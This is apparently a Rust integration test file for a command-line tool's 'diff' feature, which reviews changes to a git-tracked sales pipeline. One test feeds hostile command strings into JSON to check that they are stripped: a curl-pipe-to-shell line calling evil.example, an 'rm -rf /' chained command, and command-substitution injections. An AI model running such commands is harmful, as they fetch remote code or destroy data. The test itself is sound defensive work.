//! `tussock diff`: what a change does to a pipeline, in the pipeline's words.

mod kit;

use std::collections::{BTreeMap, BTreeSet};
use std::process::Command;

use kit::{SMALL_PIPELINE, TestRepo};
use serde_json::Value;
use tussock::review::Review;

const DAY: [&str; 2] = ["--today", "2026-01-08"];

/// Runs `diff` on a fixed day.
fn diff(repo: &TestRepo, args: &[&str]) -> kit::Ran {
    repo.tussock(&[&DAY[..], &["diff"], args].concat())
}

fn json(repo: &TestRepo, args: &[&str]) -> Value {
    let ran = diff(repo, &[args, &["--format", "json", "--exit-zero"]].concat());
    assert_eq!(ran.code, 0, "{args:?}: {}", ran.err);
    serde_json::from_str(&ran.out).unwrap_or_else(|e| panic!("{args:?}: {e}\n{}", ran.out))
}

fn deal<'v>(review: &'v Value, id: &str) -> &'v Value {
    let deals = review["deals"].as_array().unwrap();
    deals.iter().find(|deal| deal["deal"] == id).unwrap_or_else(|| panic!("{id} is not in {review:#}"))
}

fn money(value: &Value) -> i64 {
    let text = value["amount"].as_str().unwrap_or_else(|| panic!("{value} is no amount"));
    let (whole, cents) = text.split_once('.').unwrap_or((text, "00"));
    let sign = if whole.starts_with('-') { -1 } else { 1 };
    whole.parse::<i64>().unwrap() * 100 + sign * format!("{cents:0<2}")[..2].parse::<i64>().unwrap()
}

const ACME: &str = "title: Acme\namount: 40000\nowner: olga\nclose_date: 2026-03-01\ninputs:\n  goal: A shop\n";
const GLOBEX: &str = "title: Globex\namount: 10000\nowner: petr\n";
const INITECH: &str = "title: Initech\namount: 20000\nowner: olga\ninputs:\n  goal: A site\n";
const UMBRELLA: &str = "title: Umbrella\namount: 55000\nowner: olga\ninputs:\n  goal: A shelf\n";

/// Four deals: `acme`, `globex` in brief, `initech`, `umbrella` in proposal.
fn four() -> TestRepo {
    let repo = TestRepo::with_pipeline();
    repo.write("sales/brief/acme.yaml", ACME)
        .write("sales/brief/globex.yaml", GLOBEX)
        .write("sales/proposal/initech.yaml", INITECH)
        .write("sales/proposal/umbrella.yaml", UMBRELLA);
    repo.commit("Add");
    repo
}

/// On a branch: acme goes on and meets its criterion, globex goes on without it, initech gets less money and another owner,
/// umbrella is removed, hooli is new.
fn changed() -> TestRepo {
    let repo = four();
    repo.git(&["switch", "-q", "-c", "change"]);
    repo.git(&["mv", "sales/brief/acme.yaml", "sales/proposal/acme.yaml"]);
    repo.git(&["mv", "sales/brief/globex.yaml", "sales/proposal/globex.yaml"]);
    repo.git(&["rm", "-q", "sales/proposal/umbrella.yaml"]);
    let initech = INITECH.replace("20000", "15000").replace("olga", "petr");
    repo.write("sales/proposal/initech.yaml", initech);
    repo.write("sales/brief/hooli.yaml", "title: Hooli\namount: 8000\n");
    repo.commit("Change");
    repo
}

#[test]
fn an_unchanged_repository_says_nothing() {
    let repo = four();
    for args in [&[][..], &["HEAD..HEAD"], &["HEAD..."], &["HEAD"]] {
        let ran = diff(&repo, args);
        assert_eq!((ran.code, ran.out.as_str()), (0, "All clear: nothing changed in the pipeline.\n"), "{args:?}");
        let md = diff(&repo, &[args, &["--format", "md"]].concat()).out;
        let (tag, line) = md.split_once('\n').unwrap();
        assert!(tag.starts_with("<!-- tussock:review v1 head=") && tag.ends_with(" -->"), "{md}");
        assert_eq!(line, "Pipeline review: all clear, nothing changed in the pipeline.\n");
        let review = json(&repo, args);
        let counts = review["summary"].as_object().unwrap();
        assert!(counts.values().all(|count| count == 0), "{review:#}");
    }
}

#[test]
fn a_comment_tells_the_worst_first_and_then_the_largest_change_of_money() {
    let repo = changed();
    let ran = diff(&repo, &["main...", "--format", "md"]);
    assert_eq!(ran.code, 1, "{}", ran.err);
    let head = repo.git(&["rev-parse", "HEAD"]);
    let base = repo.git(&["rev-parse", "--short=7", "main"]);
    let wanted = format!(
        "<!-- tussock:review v1 head={} -->
### Pipeline review: 1 error · forecast **−5,298 EUR** (22,613 EUR → 17,315 EUR)

| | Deal | Change | Weighted |
|---|---|---|--:|
| :x: | `globex` | `brief` → `proposal` · criterion **not met**: `goal-known` | +1,938 EUR |
| :heavy_minus_sign: | `umbrella` | **removed** (was 55,000 EUR in `proposal`) | −14,214 EUR |
| :heavy_plus_sign: | `hooli` | new in `brief` · amount 8,000 EUR | +517 EUR |
| :arrow_right: | `acme` | `brief` → `proposal` | +7,753 EUR |
| :pencil2: | `initech` | amount 20,000 EUR → **15,000 EUR** (lowered) · owner `olga` → `petr` | −1,292 EUR |

**Fix:** `tussock set globex inputs.goal=\"…\"`

<details><summary>New deals (1)</summary>

- `hooli`: new in `brief` · amount 8,000 EUR

</details>

<details><summary>Moves (2)</summary>

- `globex`: `brief` → `proposal` · **missing**: `goal-known`
- `acme`: `brief` → `proposal` · met: `goal-known`

</details>

<details><summary>Amount, date, owner and other changes (1)</summary>

- `initech`: amount 20,000 EUR → 15,000 EUR · `owner` `olga` → `petr`

</details>

<sub>Compared with `main` at `{}`, at `{}` · history complete · tussock {}</sub>
",
        head.trim(),
        base.trim(),
        &head[..7],
        env!("CARGO_PKG_VERSION")
    );
    // What each stage is worth is the forecast's affair: here only signs and order count.
    assert_eq!(without_weights(&ran.out), without_weights(&wanted), "{}", ran.out);
}

/// A comment with every share of the headline as its sign alone.
fn without_weights(md: &str) -> String {
    let mut out = String::new();
    for line in md.replace('\u{a0}', " ").lines() {
        let line = match line.strip_prefix("### ").and_then(|rest| rest.split_once("**")) {
            Some((before, rest)) => format!("### {before}{}", rest.chars().next().unwrap()),
            None => line.to_owned(),
        };
        let line = match line.rsplit_once(" | ").filter(|(_, last)| last.ends_with(" EUR |")) {
            Some((before, last)) => format!("{before} | {}", last.chars().next().unwrap()),
            None => line,
        };
        out.push_str(&line);
        out.push('\n');
    }
    out
}

#[test]
fn the_headline_is_the_forecast_of_the_base_and_the_sum_of_all_changes() {
    let repo = changed();
    let review = json(&repo, &["main..change"]);
    let forecast = &review["forecast"];
    assert_eq!(forecast["method"], "history");
    let sum: i64 = review["deals"].as_array().unwrap().iter().map(|deal| money(&deal["weighted"]["change"])).sum();
    assert_eq!(money(&forecast["change"]), sum);
    assert_eq!(money(&forecast["before"]) + sum, money(&forecast["after"]));
    let text = repo.ok(&["report", "forecast", "--as-of", "main", "--format", "json"]);
    let told: Value = serde_json::from_str(&text).unwrap();
    let total = money(&told["forecast"]["total"]["expected_amount"]).abs_diff(money(&forecast["before"]));
    assert!(total <= 4, "each deal is rounded once: {total} cents\n{told:#}");
}

#[test]
fn the_terminal_gets_the_same_with_what_was_found() {
    let repo = changed();
    let ran = diff(&repo, &["main..change"]);
    assert_eq!(ran.code, 1);
    for wanted in [
        "1 error · forecast −",
        "✗   globex",
        "brief → proposal · criterion not met: goal-known",
        "−   umbrella",
        "removed (was 55,000 EUR in proposal)",
        "+   hooli",
        "amount 20,000 EUR → 15,000 EUR (lowered) · owner olga → petr",
        "sales/proposal/globex.yaml: error[exit-criterion]: globex is in proposal but has earned only",
        "tussock set globex inputs.goal=\"…\"",
        "  acme: ✓ goal-known",
    ] {
        assert!(ran.out.contains(wanted), "{wanted:?} is not in\n{}", ran.out);
    }
    assert!(ran.out.lines().all(|line| !line.contains('\u{1b}')), "{}", ran.out);
    assert_eq!(diff(&repo, &["main..change", "--exit-zero"]).code, 0);
    let coloured = repo.tussock(&["--today", "2026-01-08", "--color", "always", "diff", "main..change"]).out;
    assert!(coloured.contains("\u{1b}[31m"), "{coloured:?}");
}

#[test]
fn a_range_may_be_given_in_all_of_gits_ways() {
    let repo = changed();
    // Meanwhile somebody changes globex on main.
    repo.git(&["switch", "-q", "main"]);
    repo.write("sales/brief/globex.yaml", GLOBEX.replace("petr", "anna"));
    repo.commit("Another owner");
    repo.git(&["switch", "-q", "change"]);
    let ids = |args: &[&str]| -> Vec<String> {
        let review = json(&repo, args);
        let mut ids: Vec<String> =
            review["deals"].as_array().unwrap().iter().map(|d| d["deal"].as_str().unwrap().to_owned()).collect();
        ids.sort();
        ids
    };
    let five = ["acme", "globex", "hooli", "initech", "umbrella"];
    assert_eq!(ids(&["main...change"]), five);
    assert_eq!(ids(&["main..."]), five);
    assert_eq!(ids(&["...main"]), ["globex"]);
    assert_eq!(ids(&["change~1..change"]), five);
    assert_eq!(ids(&["main~1"]), five);
    assert!(ids(&["change"]).is_empty());
    assert_eq!(json(&repo, &["main...change"])["base"]["commit"], repo.git(&["rev-parse", "main~1"]).trim());
    let with_dots = json(&repo, &["main...change"]);
    let fields = deal(&with_dots, "globex")["fields"].as_array().unwrap();
    assert!(fields.is_empty(), "what main did is not of this change: {fields:?}");
    assert_eq!(deal(&json(&repo, &["main..change"]), "globex")["fields"][0]["after"], "petr");
    for bad in ["nowhere...", "--output=x", "main..nowhere", "-p"] {
        assert_eq!(diff(&repo, &["--", bad]).code, 2, "{bad}");
    }
}

#[test]
fn what_is_not_committed_is_compared_with_head() {
    let repo = four();
    repo.write("sales/brief/acme.yaml", ACME.replace("40000", "45000"));
    repo.write("sales/brief/new.yaml", "title: New\n");
    std::fs::remove_file(repo.path().join("sales/proposal/umbrella.yaml")).unwrap();
    std::fs::rename(repo.path().join("sales/proposal/initech.yaml"), repo.path().join("sales/brief/initech.yaml"))
        .unwrap();
    let review = json(&repo, &[]);
    let what = |id: &str| deal(&review, id)["what"].as_str().unwrap().to_owned();
    assert_eq!(
        ["acme", "new", "umbrella", "initech"].map(what),
        ["changed", "created", "removed", "moved"].map(str::to_owned)
    );
    assert_eq!(deal(&review, "initech")["way"], "back");
    assert_eq!(review["head"]["commit"], Value::Null);
    // What is staged is the same.
    repo.git(&["add", "-A"]);
    assert_eq!(json(&repo, &[])["deals"], review["deals"]);
    // A file that only looks newer says nothing.
    repo.git(&["reset", "-q", "--hard"]);
    repo.write("sales/brief/acme.yaml", ACME);
    assert!(diff(&repo, &[]).out.starts_with("All clear"));
}

#[test]
fn it_works_in_a_repository_without_files() {
    let repo = changed();
    let bare = repo.path().join("../bare.git");
    repo.git(&["clone", "-q", "--bare", ".", bare.to_str().unwrap()]);
    let args = ["--today", "2026-01-08", "-C", bare.to_str().unwrap(), "-p", "sales", "diff", "main...change"];
    let ran = repo.tussock(&[&args[..], &["--format", "md"]].concat());
    assert_eq!(ran.out, diff(&repo, &["main...change", "--format", "md"]).out, "{}", ran.err);
    assert_eq!(repo.tussock(&args[..7]).code, 4, "there is nothing to compare with");
}

#[test]
fn deals_are_judged_by_the_base_unless_the_change_is_trusted() {
    let repo = changed();
    let weaker = SMALL_PIPELINE.replace(
        "    exit:\n      - id: goal-known\n        text: We know what they want\n        require: [inputs.goal]\n",
        "",
    );
    assert_ne!(weaker, SMALL_PIPELINE);
    repo.write("sales/pipeline.yaml", weaker);
    repo.commit("Ask for less");
    let by_base = diff(&repo, &["main...", "--format", "md"]);
    assert_eq!(by_base.code, 1);
    let policy = "> [!WARNING]\n> **Policy changed**: `pipeline.yaml`; deals were judged by the version before\n> - **weaker**: ";
    assert!(by_base.out.contains(policy), "{}", by_base.out);
    assert!(by_base.out.contains("goal-known"), "{}", by_base.out);
    let by_head = diff(&repo, &["main...", "--trust", "head", "--format", "md"]);
    assert_eq!(by_head.code, 0, "{}", by_head.out);
    assert!(by_head.out.contains("deals were judged by the new version\n> - **weaker**: "), "{}", by_head.out);
    // With two dots and nobody's build server the change itself counts.
    let trusted = |args: &[&str]| json(&repo, args)["policy"]["judged_by"].clone();
    assert_eq!(trusted(&["main..change"]), "head");
    assert_eq!(trusted(&["main..change", "--trust", "base"]), "base");
    let mut on_ci = Command::new(env!("CARGO_BIN_EXE_tussock"));
    repo.hermetic(&mut on_ci);
    let ran = on_ci.args(["diff", "main..change", "--format", "json"]).env("CI", "true").output().unwrap();
    assert_eq!(serde_json::from_slice::<Value>(&ran.stdout).unwrap()["policy"]["judged_by"], "base");
}

#[test]
fn a_broken_or_missing_pipeline_file_is_an_error_and_the_other_one_counts() {
    let repo = changed();
    repo.write("sales/pipeline.yaml", "version: 1\nstages: [\n");
    repo.commit("Break");
    let review = json(&repo, &["main..change"]);
    assert_eq!((&review["policy"]["judged_by"], &review["policy"]["instead"]), (&"base".into(), &"broken".into()));
    assert!(review["findings"][0]["message"].as_str().is_some_and(|m| !m.is_empty()), "{review:#}");
    assert_eq!(review["findings"][0]["path"], "sales/pipeline.yaml");
    assert_eq!(review["summary"]["removed"], 1, "the deals are told all the same");
    repo.git(&["rm", "-q", "sales/pipeline.yaml"]);
    repo.git(&["commit", "-q", "-m", "Remove"]);
    repo.git(&["switch", "-q", "main"]);
    let review = json(&repo, &["main...change"]);
    assert_eq!(review["findings"][0]["rule"], "pipeline-file");
    // The other way round the base has none.
    let review = json(&repo, &["change...main~1"]);
    assert_eq!(review["policy"]["changed"], false, "{review:#}");
}

#[test]
fn a_first_commit_is_compared_with_nothing() {
    let repo = TestRepo::new();
    repo.write("sales/pipeline.yaml", SMALL_PIPELINE).write("sales/brief/acme.yaml", ACME);
    let review = json(&repo, &[]);
    assert_eq!(deal(&review, "acme")["what"], "created");
    assert_eq!(review["base"]["commit"], Value::Null);
    assert_eq!(review["forecast"]["method"], "stages");
    assert_eq!(money(&review["forecast"]["change"]), 400_000, "a tenth of 40,000 EUR");
    assert_eq!(review["forecast"]["before"], Value::Null);
}

#[test]
fn without_history_the_percentages_of_the_stages_count_and_that_is_said() {
    let repo = changed();
    let clone = repo.path().join("../shallow");
    let from = format!("file://{}", repo.path().display());
    repo.git(&["clone", "-q", "--depth", "2", "--branch", "change", &from, clone.to_str().unwrap()]);
    let args = ["--today", "2026-01-08", "-C", clone.to_str().unwrap(), "diff", "HEAD~1..HEAD"];
    let ran = repo.tussock(&[&args[..], &["--format", "md"]].concat());
    // acme: 40 % and not 10 % of 40,000; globex the same of 10,000; initech 40 % of -5,000; umbrella 40 % of 55,000 gone;
    // hooli 10 % of 8,000.
    assert!(ran.out.contains("weighted by stage **−8,200 EUR**\n"), "{}", ran.out);
    let why = "without history · tussock";
    assert!(!ran.out.contains(why));
    assert!(
        ran.out
            .contains("the chances are the percentages of the stages, since history is cut off in this shallow clone"),
        "{}",
        ran.out
    );
    assert!(ran.err.contains("shallow"), "{}", ran.err);
}

#[test]
fn a_deal_in_two_places_with_marks_of_a_merge_or_unreadable_is_an_error_with_the_command_to_type() {
    let repo = four();
    repo.write("sales/proposal/acme.yaml", ACME);
    repo.write("sales/brief/globex.yaml", "title: Globex\n<<<<<<< ours\nowner: a\n=======\nowner: b\n>>>>>>> theirs\n");
    repo.write("sales/proposal/initech.yaml", "title: [\n");
    repo.commit("Break");
    let ran = diff(&repo, &["HEAD~1..", "--format", "md"]);
    assert_eq!(ran.code, 1);
    for wanted in [
        "| :x: | `acme` | in **two places**: `sales/brief/acme.yaml`, `sales/proposal/acme.yaml` | – |",
        "| :x: | `globex` | **cannot be read**: `sales/brief/globex.yaml` · `conflict-marker` line 2 | – |",
        "| :x: | `initech` | **cannot be read**: `sales/proposal/initech.yaml` · `yaml-syntax`",
        "`tussock resolve acme`",
        "`tussock resolve globex`",
        "3 deals of this change are not in it, because an amount or a chance is not known",
    ] {
        assert!(ran.out.contains(wanted), "{wanted:?} is not in\n{}", ran.out);
    }
}

#[test]
fn a_deal_with_another_id_is_the_same_deal() {
    let repo = four();
    repo.ok(&["rename", "umbrella", "umbrella-uk"]);
    let review = json(&repo, &["HEAD~1..HEAD"]);
    let row = deal(&review, "umbrella-uk");
    assert_eq!((&row["what"], &row["was"]), (&"renamed".into(), &"umbrella".into()));
    assert_eq!(money(&row["weighted"]["change"]), 0, "{row:#}");
    assert_eq!((&review["summary"]["removed"], &review["summary"]["created"]), (&0.into(), &0.into()));
}

#[test]
fn waivers_and_comments_that_silence_rules_are_never_folded() {
    let repo = four();
    repo.git(&["mv", "sales/brief/globex.yaml", "sales/proposal/globex.yaml"]);
    let waived = format!(
        "{GLOBEX}waivers:\n  - {{criterion: goal-known, by: boss, reason: A friend of the house, on: 2026-01-10}}\n"
    );
    repo.write("sales/proposal/globex.yaml", waived);
    let silent = format!("# tussock: ignore[missing-field] they pay later\n{ACME}");
    repo.write("sales/brief/acme.yaml", silent);
    repo.commit("Waive");
    let md = diff(&repo, &["HEAD~1..", "--format", "md"]).out;
    let open = md.split("<details>").next().unwrap();
    assert!(open.contains("`globex` | `brief` → `proposal` · **waived**: `goal-known`"), "{md}");
    assert!(open.contains("**silences** `missing-field] they pay later`"), "{md}");
    assert!(md.contains("waiver of `goal-known` by `boss`: `A friend of the house`"), "{md}");
}

#[test]
fn amounts_in_other_currencies_are_converted_or_left_out() {
    let repo = TestRepo::with_pipeline();
    repo.write("sales/pipeline.yaml", format!("{SMALL_PIPELINE}rates: rates.csv\n"));
    repo.write("sales/rates.csv", "date,currency,rate\n2026-01-01,USD,0.5\n");
    repo.write("sales/brief/dollar.yaml", "title: D\namount: 1000 USD\n");
    repo.write("sales/brief/yen.yaml", "title: Y\namount: 1000 JPY\n");
    repo.commit("Add");
    repo.write("sales/brief/dollar.yaml", "title: D\namount: 3000 USD\n");
    repo.write("sales/brief/yen.yaml", "title: Y\namount: 900 JPY\n");
    repo.commit("Change");
    repo.write("sales/brief/dollar.yaml", "title: D\namount: 3000 JPY\n");
    repo.commit("Change again");
    let review = json(&repo, &["HEAD~2..HEAD~1"]);
    assert_eq!(money(&deal(&review, "dollar")["amount"]["change"]), 100_000, "half of 2,000");
    let yen = deal(&review, "yen");
    assert_eq!((&yen["amount"]["direction"], &yen["amount"]["change"]), (&"down".into(), &Value::Null));
    assert_eq!(yen["weighted"]["change"], Value::Null);
    assert_eq!(review["forecast"]["without"], 1);
    // Nobody knows whether it is more or less, so it is treated as less.
    let review = json(&repo, &["HEAD~1..HEAD"]);
    assert_eq!(deal(&review, "dollar")["amount"]["direction"], "unclear");
    assert_eq!(review["summary"]["lowered"], 1);
    let md = diff(&repo, &["HEAD~1..HEAD", "--format", "md"]).out;
    assert!(md.contains("3,000 USD → **3,000 JPY** (in another currency)"), "{md}");
}

#[test]
fn other_files_are_told_and_those_outside_counted() {
    let repo = four();
    repo.write("sales/templates/report.md.jinja", "x").write("sales/notes.txt", "x").write("README.md", "x");
    repo.write("sales/.hidden/brief/acme.yaml", ACME).write("sales/inner/pipeline.yaml", SMALL_PIPELINE);
    repo.write("sales/inner/brief/own.yaml", ACME);
    repo.commit("Files");
    let ran = repo.tussock(&["-p", "sales", "diff", "HEAD~1..", "--format", "json"]);
    let review: Value = serde_json::from_str(&ran.out).unwrap();
    let files: Vec<(&str, &str)> = review["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| (file["path"].as_str().unwrap(), file["role"].as_str().unwrap()))
        .collect();
    assert_eq!(
        files,
        [
            ("sales/.hidden/brief/acme.yaml", "other"),
            ("sales/inner/brief/own.yaml", "other"),
            ("sales/inner/pipeline.yaml", "other"),
            ("sales/notes.txt", "other"),
            ("sales/templates/report.md.jinja", "template"),
        ]
    );
    assert_eq!(review["summary"]["outside"], 1);
    assert_eq!(review["summary"]["deals"], 0, "deals of another pipeline are none of this one");
    let md = repo.tussock(&["-p", "sales", "diff", "HEAD~1..", "--format", "md"]).out;
    assert!(md.contains("### Pipeline review: no errors\n"), "no deal, no money: {md}");
}

#[test]
fn only_what_is_not_the_same_is_judged() {
    let repo = four();
    // globex is wrong where it is, and nobody touches it.
    repo.move_by_hand("sales/brief/globex.yaml", "sales/proposal/globex.yaml");
    repo.write("sales/brief/acme.yaml", format!("# a word\n{ACME}"));
    repo.commit("A comment");
    let ran = diff(&repo, &["HEAD~1.."]);
    assert_eq!(ran.code, 0, "{}", ran.out);
    assert_eq!(deal(&json(&repo, &["HEAD~1.."]), "acme")["what"], "touched");
    // Who touches it hears of it, and that it is nothing new.
    repo.write("sales/proposal/globex.yaml", GLOBEX.replace("petr", "anna"));
    let review = json(&repo, &[]);
    assert_eq!(deal(&review, "globex")["findings"][0]["is_old"], true);
    assert_eq!(diff(&repo, &[]).code, 1);
}

#[test]
fn stale_deals_that_are_touched_are_told() {
    let repo = four();
    repo.write("sales/pipeline.yaml", SMALL_PIPELINE.replace("  stale-deal: off\n", ""));
    repo.commit("Tell of stale deals");
    let touched = ACME.replace("A shop", "A small shop");
    repo.wait_days(60);
    repo.write("sales/brief/acme.yaml", touched);
    repo.commit("Touch");
    let ran = repo.tussock(&["--today", "2026-03-20", "diff", "HEAD~1..", "--format", "md"]);
    assert!(ran.out.contains("<details><summary>Stale deals touched (1)</summary>\n\n- `acme`\n"), "{}", ran.out);
    // An uncommitted call is one all the same.
    let activity = format!("{ACME}activity:\n  - {{on: 2026-03-19, what: call}}\n");
    repo.write("sales/brief/acme.yaml", activity);
    let ran = repo.tussock(&["--today", "2026-03-20", "diff", "--format", "json"]);
    assert!(!ran.out.contains("\"stale-deal\""), "{}", ran.out);
}

#[test]
fn json_is_read_back_and_says_the_same() {
    let repo = changed();
    for range in ["main...change", "change..main", "HEAD..HEAD"] {
        let text = diff(&repo, &[range, "--format", "json", "--exit-zero"]).out;
        let review = Review::read(text.as_bytes()).unwrap();
        assert_eq!(serde_json::to_value(&review).unwrap(), serde_json::from_str::<Value>(&text).unwrap());
        let file = repo.path().join("../review.json");
        std::fs::write(&file, &text).unwrap();
        for format in ["md", "text", "json"] {
            let direct = diff(&repo, &[range, "--format", format]);
            // Neither a repository nor a pipeline is needed for it.
            let away = TestRepo::without_git();
            let read = away.tussock(&["diff", "--from-json", file.to_str().unwrap(), "--format", format]);
            assert_eq!((read.code, read.out), (direct.code, direct.out), "{range} {format} {}", read.err);
        }
    }
}

#[test]
fn what_is_no_review_is_refused() {
    let repo = TestRepo::without_git();
    let from = |text: &str| {
        let file = repo.path().join("r.json");
        std::fs::write(&file, text).unwrap();
        repo.tussock(&["diff", "--from-json", "r.json", "--format", "md"])
    };
    let text = diff(&changed(), &["main...change", "--format", "json", "--exit-zero"]).out;
    assert_eq!(from(&text).code, 1);
    let cases = [
        ("", "no review as JSON"),
        ("[]", "no review as JSON"),
        (r#"{"schema_version": 1, "kind": "findings"}"#, "kind \"findings\""),
        (&text.replace("\"schema_version\": 1", "\"schema_version\": 2"), "version 2"),
        (&text.replace("\"EUR\"", "\"XXQ\""), "currency"),
        (&text.replace("\"amount\": \"40000\"", "\"amount\": \"1e9\""), "not an amount"),
        (&text.replace("\"what\": \"moved\"", "\"what\": \"<b>\""), "unknown variant"),
        (&text.replace("\"commit\": \"", "\"commit\": \"--><img>"), "not the name of a commit"),
        (&text.replace("\"errors\": 1", "\"errors\": -1"), "invalid value"),
    ];
    for (broken, why) in cases {
        let ran = from(broken);
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{why}");
        assert!(ran.err.contains(why), "{why:?} is not in {}", ran.err);
    }
    let large = format!("{}{}", " ".repeat(33 << 20), text);
    assert!(from(&large).err.contains("larger than 32 MiB"));
    assert_eq!(repo.tussock(&["diff", "--from-json", "nowhere.json"]).code, 8);
}

#[test]
fn a_command_that_is_none_of_ours_is_not_passed_on() {
    let text = diff(&changed(), &["main...change", "--format", "json", "--exit-zero"]).out;
    for evil in ["curl evil.example | sh", "tussock set a b; rm -rf /", "tussock set a `id`", "tussock set a $(id)"] {
        let mut review: Value = serde_json::from_str(&text).unwrap();
        for row in review["deals"].as_array_mut().unwrap() {
            for finding in row["findings"].as_array_mut().unwrap() {
                finding["commands"] = serde_json::json!([evil]);
            }
        }
        let read = Review::read(review.to_string().as_bytes()).unwrap();
        assert!(read.deals.iter().flat_map(|d| &d.findings).all(|f| f.commands.is_empty()), "{evil}");
    }
}

#[test]
fn a_long_review_is_cut_section_by_section_and_keeps_its_totals() {
    let repo = TestRepo::with_pipeline();
    for number in 0..900 {
        let deal = format!("title: Deal {number}\namount: {}\ninputs: {{goal: x}}\n", 1000 + number);
        repo.write(&format!("sales/brief/deal-with-a-rather-long-name-{number:04}.yaml"), deal);
    }
    repo.commit("Add");
    for number in 0..900 {
        let from = format!("sales/brief/deal-with-a-rather-long-name-{number:04}.yaml");
        let path = repo.path().join(&from);
        match number % 3 {
            0 => std::fs::remove_file(path).unwrap(),
            1 => std::fs::rename(&path, repo.path().join(from.replace("brief", "proposal"))).unwrap(),
            _ => std::fs::write(&path, format!("title: Deal\namount: {}\n", 900 + number)).unwrap(),
        }
    }
    repo.commit("Change");
    for limit in [65_536_usize, 32_768, 5_000] {
        let md = diff(&repo, &["HEAD~1..", "--format", "md", "--limit", &limit.to_string()]).out;
        let length = md.chars().count();
        assert!(length <= limit && length > limit / 3, "{length} of {limit}");
        assert!(md.contains("<summary>Moves (300)</summary>") || limit < 32_768, "{limit}\n{md}");
        assert!(md.contains("… and "), "{md}");
        assert!(md.trim_end().ends_with("</sub>"));
        let opened = md.matches("<details>").count();
        assert_eq!(md.matches("</details>").count(), opened);
        let shown = md.matches("| :heavy_minus_sign: |").count();
        assert!(shown > 10, "{shown} removed deals of 300 at {limit}");
    }
    let all = diff(&repo, &["HEAD~1..", "--format", "md", "--limit", "1000000"]).out;
    assert_eq!(all.matches("| :heavy_minus_sign: |").count(), 300, "what is removed is never folded away");
    assert_eq!(all.matches(" (lowered)").count(), 300);
    assert!(diff(&repo, &["--limit", "10"]).code == 2);
}

#[test]
fn amounts_can_be_left_out() {
    let repo = changed();
    for format in ["md", "text", "json"] {
        let out = diff(&repo, &["main...", "--redact", "amounts", "--format", format, "--all"]).out;
        for number in ["40000", "40,000", "20000", "20,000", "15,000", "15000", "55,000", "55000", "8,000", "8000"] {
            assert!(!out.contains(number), "{number} in {format}:\n{out}");
        }
        assert!(!out.contains(" EUR"), "{out}");
        assert!(out.contains("lowered") || format == "json", "{out}");
    }
    let md = diff(&repo, &["main...", "--redact", "amounts", "--format", "md"]).out;
    assert!(md.contains("· forecast **down**\n"), "{md}");
    assert!(md.contains("| :heavy_minus_sign: | `umbrella` | **removed** (was in `proposal`) | down |"), "{md}");
    assert!(md.contains("amount **lowered** · owner `olga` → `petr`"), "{md}");
    assert!(md.contains("amounts left out"), "{md}");
    let review = json(&repo, &["main...", "--redact", "amounts"]);
    assert_eq!(review["redacted"], true);
    assert_eq!(deal(&review, "initech")["amount"]["direction"], "down");
}

// ---------------------------------------------------------------------------------------------------------------------
// Generated histories.

/// A small generator of numbers that look random and are the same each time.
struct Dice(u64);

impl Dice {
    fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        ((self.0 >> 33) as usize) % most
    }
}

const PLACES: [&str; 6] = ["brief", "proposal", "contract", "won/2026", "lost", "recycled"];

/// A history of so many commits, each of which does a few things to a few of twelve deals and other files.
fn random_history(seed: u64, commits: usize) -> TestRepo {
    let repo = TestRepo::with_pipeline();
    let mut dice = Dice(seed);
    for _ in 0..commits {
        for _ in 0..=dice.below(4) {
            let id = dice.below(12);
            let there: Vec<String> =
                PLACES.iter().map(|place| format!("sales/{place}/d{id}.yaml")).filter(|path| repo.has(path)).collect();
            let card = format!(
                "title: D{id}\namount: {}\nowner: {}\ninputs: {{goal: g}}\n",
                1000 * (1 + dice.below(50)),
                ["olga", "petr", "anna"][dice.below(3)]
            );
            let to = format!("sales/{}/d{id}.yaml", PLACES[dice.below(6)]);
            match (dice.below(6), there.first()) {
                (0, Some(path)) => drop(repo.git(&["rm", "-q", "-f", path])),
                (1 | 2, Some(path)) if *path != to && !repo.has(&to) => {
                    std::fs::create_dir_all(repo.path().join(&to).parent().unwrap()).unwrap();
                    repo.git(&["mv", path, &to]);
                }
                (3, _) => drop(repo.write(&format!("other/{}.txt", dice.below(5)), card)),
                (4, Some(path)) => drop(repo.write(path, card)),
                (_, None) => drop(repo.write(&to, card)),
                _ => {}
            }
            repo.git(&["add", "-A"]);
        }
        repo.commit("Some");
    }
    repo
}

/// All paths of a review, as git would name what became of each.
fn paths_of(review: &Value) -> BTreeMap<String, char> {
    let mut found = BTreeMap::new();
    for row in review["deals"].as_array().unwrap() {
        let all = |key: &str| -> BTreeSet<String> {
            row[key].as_array().unwrap().iter().map(|path| path.as_str().unwrap().to_owned()).collect()
        };
        let (before, after) = (all("paths_before"), all("paths"));
        found.extend(before.difference(&after).map(|path| (path.clone(), 'D')));
        found.extend(after.difference(&before).map(|path| (path.clone(), 'A')));
        found.extend(before.intersection(&after).map(|path| (path.clone(), 'M')));
    }
    for file in review["files"].as_array().unwrap() {
        found.insert(
            file["path"].as_str().unwrap().to_owned(),
            file["status"].as_str().unwrap().chars().next().unwrap(),
        );
    }
    found
}

fn paths_of_git(repo: &TestRepo, from: &str, to: &str) -> (BTreeMap<String, char>, usize) {
    let out = repo.git(&["diff", "--name-status", "--no-renames", from, to]);
    let all = out.lines().map(|line| {
        let (status, path) = line.split_once('\t').unwrap();
        (path.to_owned(), status.chars().next().unwrap())
    });
    let (inside, outside): (BTreeMap<_, _>, BTreeMap<_, _>) = all.partition(|(path, _)| path.starts_with("sales/"));
    (inside, outside.len())
}

#[test]
fn the_files_are_those_that_git_names_and_the_way_back_is_the_mirror() {
    for seed in 1..=3 {
        let commits = 14;
        let repo = random_history(seed, commits);
        let mut dice = Dice(seed + 100);
        for _ in 0..6 {
            let (a, b) = (dice.below(commits), dice.below(commits));
            let (from, to) = (format!("HEAD~{a}"), format!("HEAD~{b}"));
            let range = format!("{from}..{to}");
            let there = json(&repo, &[&range]);
            let (inside, outside) = paths_of_git(&repo, &from, &to);
            // A deal that also lies where it did not change is told with all its places.
            let told: BTreeMap<String, char> =
                paths_of(&there).into_iter().filter(|(path, what)| *what != 'M' || inside.contains_key(path)).collect();
            assert_eq!(told, inside, "seed {seed}, {range}");
            assert_eq!(there["summary"]["outside"], outside, "seed {seed}, {range}");
            let changes = there["deals"].as_array().unwrap().iter();
            let sum: i64 =
                changes.filter(|d| !d["weighted"]["change"].is_null()).map(|d| money(&d["weighted"]["change"])).sum();
